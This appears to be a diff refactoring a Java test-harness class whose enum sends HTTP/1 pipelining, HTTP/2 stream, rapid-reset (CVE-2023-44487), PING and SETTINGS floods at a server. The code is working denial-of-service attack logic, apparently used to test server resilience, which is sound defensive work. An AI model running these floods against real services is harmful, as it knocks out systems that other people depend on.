@@ -12,7 +12,6 @@ import java.time.Duration;
 import java.util.ArrayList;
 import java.util.Arrays;
 import java.util.List;
-import java.util.function.IntFunction;
 
 /** Clients of attacks. Each reads nothing. A connection that the service closes or refuses is no error. */
 final class Attack implements AutoCloseable {
@@ -33,29 +32,31 @@ final class Attack implements AutoCloseable {
             "\u0016\u0003\u0001\0\u00c8\u0001\0\0\u00c4\u0003\u0003" + "x".repeat(190),
             "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + "x".repeat(200));
 
-    /** What the clients of a flood send, in parts. The parameter of {@link #part} is the number of parts before. */
+    /** What the clients of a flood send. */
     enum Flood {
-        PIPELINED(new byte[0], part -> bytes(GET.repeat(PART))),
+        PIPELINED,
         /** More streams than are allowed, without a window for responses. */
-        STREAMS(preface(), part -> streams(part, false)),
+        STREAMS,
         /** Streams that the client resets at once (CVE-2023-44487). */
-        RAPID_RESETS(preface(), part -> streams(part, true)),
-        PINGS(preface(), part -> repeat(frame(6, 0, 0, new byte[8]))),
-        SETTINGS(preface(), part -> repeat(noWindow()));
-
-        private final byte[] start;
-        private final IntFunction<byte[]> parts;
-
-        Flood(byte[] start, IntFunction<byte[]> parts) {
-            this.start = start;
-            this.parts = parts;
-        }
+        RAPID_RESETS,
+        PINGS,
+        SETTINGS;
 
         private void send(OutputStream out) throws IOException {
-            out.write(start);
+            out.write(this == PIPELINED ? new byte[0] : preface());
             for (int part = 0; part < Integer.MAX_VALUE / (2 * PART); part++) {
-                out.write(parts.apply(part));
+                out.write(part(part));
             }
+        }
+
+        private byte[] part(int before) {
+            return switch (this) {
+                case PIPELINED -> bytes(GET.repeat(PART));
+                case STREAMS -> streams(before, false);
+                case RAPID_RESETS -> streams(before, true);
+                case PINGS -> repeat(frame(6, 0, 0, new byte[8]));
+                case SETTINGS -> repeat(noWindow());
+            };
         }
     }
 
